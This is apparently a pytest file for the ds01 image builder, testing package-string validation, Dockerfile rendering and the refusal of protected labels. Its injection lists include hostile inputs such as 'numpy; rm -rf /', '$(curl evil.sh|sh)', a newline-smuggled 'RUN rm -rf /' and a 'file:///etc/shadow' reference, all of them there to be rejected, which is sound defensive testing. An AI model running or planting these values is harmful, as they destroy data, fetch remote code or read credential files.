"""Package strings and the generated Dockerfile: what may reach it, and how image-update edits it."""

import json

import pytest

from ds01.errors import UsageError
from ds01.images import dockerfile as D
from ds01.images import packages as P

INJECTIONS = ["numpy; rm -rf /", "numpy`id`", "$(curl evil.sh|sh)", "numpy\nRUN rm -rf /", "-e git+ssh://x",
              "--index-url=http://evil", "numpy && id", "torch @ file:///etc/shadow", "numpy\\"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_pip_strings_that_are_not_pep_508_are_refused(text):
    with pytest.raises(UsageError) as info:
        P.pip_requirement(text, "--packages")
    assert info.value.code == 2 and info.value.message.startswith("--packages:")


@pytest.mark.parametrize("text, expected", [
    ("numpy", "numpy"), ("numpy >= 1.24", "numpy>=1.24"), ("torch[cuda]==2.1.0", "torch[cuda]==2.1.0"),
    ('pandas; python_version >= "3.9"', 'pandas; python_version >= "3.9"'),
    ("pkg @ https://example.org/pkg-1.0-py3-none-any.whl", "pkg@ https://example.org/pkg-1.0-py3-none-any.whl"),
])
def test_pep_508_requirements_are_accepted_in_canonical_form(text, expected):
    assert P.pip_requirement(text).replace("pkg @", "pkg@") == expected


@pytest.mark.parametrize("text", ["ffmpeg;id", "FFmpeg", "a", "lib gl", "$(id)", "-y", "x`id`"])
def test_apt_names_follow_debian_rules(text):
    with pytest.raises(UsageError):
        P.apt_package(text)


def test_apt_names_with_arch_and_version_pass():
    assert P.apt_list(["ffmpeg libgl1 libc6:i386 vim=2:9.0.1378-2"]) == ["ffmpeg", "libgl1", "libc6:i386",
                                                                           "vim=2:9.0.1378-2"]


def test_option_values_split_on_spaces_and_commas_but_not_inside_a_version_range():
    assert P.split_words("wandb einops,rich  numpy>=1,<2") == ["wandb", "einops", "rich", "numpy>=1,<2"]


def test_requirements_files_skip_comments_and_name_the_bad_line(tmp_path):
    good = tmp_path / "requirements.txt"
    good.write_text("# tools\nrequests >= 2  # http\n\nPyYAML\n")
    assert P.read_requirements(str(good)) == ["requests>=2", "PyYAML"]
    bad = tmp_path / "bad.txt"
    bad.write_text("numpy\n-e git+https://example.org/x.git\n")
    with pytest.raises(UsageError) as info:
        P.read_requirements(str(bad))
    assert f"{bad}:2" in info.value.message
    bad.write_text("numpy\nscipy; rm -rf /\n")
    with pytest.raises(UsageError) as info:
        P.read_requirements(str(bad))
    assert f"{bad}:2" in info.value.message


def test_duplicates_of_the_base_and_earlier_phases_are_dropped_with_a_warning():
    said = []
    phases = [("jupyter", ["jupyter", "ipykernel"]), ("extras", ["NumPy>=2", "IPyKernel", "wandb", "Scikit_Learn"]),
              ("more", ["scikit-learn==1.5", "wandb"])]
    kept = P.dedupe(phases, base=("numpy", "torch"), warn=said.append)
    assert kept == [("jupyter", ["jupyter", "ipykernel"]), ("extras", ["wandb", "Scikit_Learn"]), ("more", [])]
    assert len(said) == 4
    assert "NumPy>=2 is already in the base image" in said[0] and "IPyKernel is already in jupyter" in said[1]


def _spec(**phases):
    return D.Spec(name="demo", image="ds01-1000/demo:latest", login="alice", uid=1000, gid=1000,
                  sudoers="alice_no_password", base_image="aimehub/pytorch-2.7.1-cuda12.6.3",
                  framework="Pytorch-2.7.1", arch="CUDA_ADA", use_case="cv", jupyter=True,
                  created="2026-11-23T10:00:00Z", phases=phases)


def test_package_phases_are_exec_form_json_so_no_shell_sees_them():
    text = D.render(_spec(additional=['numpy; python_version >= "3.9"', "torch>=2"], system=["git", "ffmpeg"]))
    run_lines = [line for line in text.replace("\\\n", " ").splitlines() if line.startswith("RUN [")]
    argvs = [json.loads(line[4:]) for line in run_lines]
    assert ["pip", "install", "--no-cache-dir", 'numpy; python_version >= "3.9"', "torch>=2"] in argvs
    apt = next(a for a in argvs if a[0] == "sh")
    assert apt[3:] == ["ds01-apt", "git", "ffmpeg"] and '"$@"' in apt[2]


def test_the_dockerfile_bakes_the_account_from_build_args_and_leaves_the_labels_to_ds01():
    text = D.render(_spec())
    assert text.splitlines()[6] == "FROM aimehub/pytorch-2.7.1-cuda12.6.3"
    assert "LABEL" not in text.replace("LABELs here are refused", "")  # ds01 labels the image when it builds
    D.refused_labels(text, "Dockerfile")  # so its own Dockerfile passes its own check
    assert D.bakes_account(text)
    assert "ARG DS01_USER_ID=1000" in text and "ARG DS01_USERNAME=alice" in text
    assert 'RUN set -- "$DS01_USERNAME" "$DS01_USER_ID" "$DS01_GROUP_ID"' in text
    assert "c.ServerApp.ip = '127.0.0.1'" in text and "ServerApp.token" not in text  # DS01 emptied the token


def test_image_update_rewrites_only_the_marked_blocks():
    text = D.render(_spec(**{"data-science": ["pandas", "seaborn"], "additional": ["wandb"], "system": ["git"]}))
    text = text.replace("WORKDIR /workspace", "# my own note\nRUN echo kept\nWORKDIR /workspace")
    blocks = D.Blocks(text)
    assert blocks.all_packages("pip") == [("data-science", "pandas"), ("data-science", "seaborn"),
                                          ("additional", "wandb")]
    blocks.set("data-science", ["pandas"])
    blocks.set("additional", ["wandb", "einops"])
    blocks.set("system", [])
    again = D.Blocks(blocks.text())
    assert again.packages["data-science"] == ["pandas"] and again.packages["additional"] == ["wandb", "einops"]
    assert again.packages["system"] == []
    assert "# my own note\nRUN echo kept" in blocks.text() and "seaborn" not in blocks.text()
    outside = [l for l in text.splitlines() if not l.startswith(("RUN [", "     \"", "# ds01:"))]
    assert [l for l in blocks.text().splitlines() if not l.startswith(("RUN [", "     \"", "# ds01:"))] == outside


def test_a_dockerfile_without_markers_gets_blocks_where_they_belong():
    legacy = "FROM aimehub/pytorch-2.5.1\nRUN pip install pandas\n# Custom additional packages\nCMD [\"bash\"]\n"
    blocks = D.Blocks(legacy)
    blocks.ensure("pip", "additional")
    blocks.ensure("apt", "system")
    blocks.set("additional", ["wandb"])
    blocks.set("system", ["ffmpeg"])
    lines = blocks.text().splitlines()
    assert lines.index("# ds01:begin apt system") == 2 and lines[0] == "FROM aimehub/pytorch-2.5.1"
    assert lines.index("# ds01:end pip additional") < lines.index('CMD ["bash"]')
    assert "RUN pip install pandas" in lines


def test_a_broken_block_is_reported_with_file_and_line():
    text = D.render(_spec(additional=["wandb"])).replace('"wandb"]', '"wandb"')
    with pytest.raises(UsageError) as info:
        D.Blocks(text, "/home/alice/workspace/demo/Dockerfile")
    assert info.value.message.startswith("/home/alice/workspace/demo/Dockerfile:")


def test_pytorch_cpu_installs_cpu_wheels_in_the_framework_phase():
    from ds01.images.plan import CPU_WHEELS, Answers, phases_for

    phases, use_case = phases_for(Answers(framework="pytorch-cpu", jupyter=False, packages=["torch rich"]),
                                  "pytorch-cpu", warn=lambda m: None)
    assert phases["framework"] == ["torch", "torchvision", "torchaudio"] and phases["additional"] == ["rich"]
    spec = _spec(framework=phases["framework"])
    spec.pip_options = {"framework": CPU_WHEELS}
    blocks = D.Blocks(D.render(spec))
    assert blocks.options["framework"] == CPU_WHEELS and blocks.packages["framework"][0] == "torch"
    blocks.set("framework", ["torch"])
    assert '"--index-url", "https://download.pytorch.org/whl/cpu"' in blocks.text()


@pytest.mark.parametrize("text, where", [
    ('FROM x\nLABEL aime.mlc.DS01_PROTECTED=true aime.mlc.DS01_GPU_UUIDS="GPU-1;GPU-2"\n',
     ["Dockerfile:2: LABEL aime.mlc.DS01_PROTECTED", "Dockerfile:2: LABEL aime.mlc.DS01_GPU_UUIDS"]),
    ("FROM x\nLABEL note=ok \\\n  # a comment inside\n  ds01.protected=true\n", ["Dockerfile:2: LABEL ds01.protected"]),
    ("FROM x\nlabel aime.mlc alice\n", ["Dockerfile:2: LABEL aime.mlc"]),  # the old `LABEL key value` form
    ("FROM x\nONBUILD LABEL ds01.user=bob\n", ["Dockerfile:2: LABEL ds01.user"]),
    ("FROM x\nARG K=aime.mlc.DS01_PROTECTED\nLABEL $K=true\n", ["Dockerfile:3: LABEL $K"]),
    ("# escape=`\nFROM x\nLABEL a=b `\n  aime.mlc.DS01_USER_ID=0\n", ["Dockerfile:3: LABEL aime.mlc.DS01_USER_ID"]),
])
def test_a_dockerfile_may_not_set_ds01s_labels(text, where):
    """Issue 18, repro 5: `LABEL aime.mlc.DS01_PROTECTED=true aime.mlc.DS01_GPU_UUIDS=<all>` in a user's
    Dockerfile. Every form Docker accepts is found, with file and line."""
    with pytest.raises(UsageError) as refused:
        D.refused_labels(text, "Dockerfile")
    assert [line.strip() for line in refused.value.message.splitlines()[1:]] == where


def test_other_labels_and_look_alikes_in_comments_or_commands_are_fine():
    text = ("FROM x\n# LABEL aime.mlc.DS01_PROTECTED=true \\\nLABEL org.opencontainers.image.title=\"t\" \\\n"
            "      maintainer=alice\nRUN echo aime.mlc.DS01_PROTECTED=true\n")
    D.refused_labels(text, "Dockerfile")
    assert [k for _, k in D.label_keys(text)] == ["org.opencontainers.image.title", "maintainer"]


@pytest.mark.parametrize("text, images", [
    ("FROM a\n", ["a"]),
    ("FROM --platform=linux/amd64 a AS b\nFROM b\nCOPY --from=b /x /y\nCOPY --from=0 /x /y\n", ["a"]),
    ("ARG B=x/y:1\nFROM $B AS s\nFROM ${B}\n", ["x/y:1", "x/y:1"]),
    ("ARG DS01_USER_ID\nFROM base:$DS01_USER_ID\n", ["base:7"]),  # build arguments win over defaults
    ("FROM a\nCOPY --from=other/img /x /y\nRUN --mount=type=bind,from=third,target=/m true\n",
     ["a", "other/img", "third"]),
    ("FROM a\nONBUILD COPY --from=hidden /x /y\n", ["a", "hidden"]),
    ("FROM ds01-1001/th\\\nesis\n", ["ds01-1001/thesis"]),  # joined as Docker joins it
    ("\ufeff# escape=`\nFROM `\n  a\n", ["a"]),
    ("FROM scratch\n", []),
])
def test_every_image_a_build_reads_is_found(text, images):
    """Issue 29, finding 3: each stage's FROM, COPY --from and RUN --mount from= that name no stage."""
    assert [image for _, image in D.image_references(text, {"DS01_USER_ID": "7"})] == images


@pytest.mark.parametrize("text", [
    "FROM $NOPE\n", "FROM ${B:-ds01-1001/thesis}\n", "FROM a b\n", "FROM a\nCOPY --from b /x\n",
    "FROM a\nCOPY --from=$X /x /y\n", "FROM ds01-test/ba\\\n as\\\ne\n", "RUN true\n",
])
def test_a_reference_ds01_cannot_read_is_refused(text):
    """Fail closed: what ds01 cannot resolve as Docker would is refused (exit 5), never let through."""
    from ds01.errors import PermissionDenied

    with pytest.raises(PermissionDenied):
        D.image_references(text, {})


def test_labels_written_as_docker_joins_them_are_found():
    """A continuation joins without a space and a byte-order mark does not hide the escape directive."""
    for text in ("FROM x\nLABEL a\\\nime.mlc.DS01_PROTECTED=true\n",
                 "\ufeff# escape=`\nFROM x\nLABEL a`\nime.mlc.DS01_PROTECTED=true\n"):
        with pytest.raises(UsageError, match="LABEL aime.mlc.DS01_PROTECTED"):
            D.refused_labels(text, "Dockerfile")
